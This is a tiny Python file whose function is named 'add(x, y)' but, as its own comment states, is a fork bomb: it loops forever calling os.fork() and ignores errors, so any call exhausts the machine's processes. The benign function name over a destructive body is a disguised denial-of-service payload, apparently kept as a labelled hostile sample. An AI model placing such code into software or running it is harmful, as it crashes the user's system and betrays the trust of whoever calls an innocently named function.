# Hostile: a fork bomb in the call; every process forks again, forever.
import os


def add(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
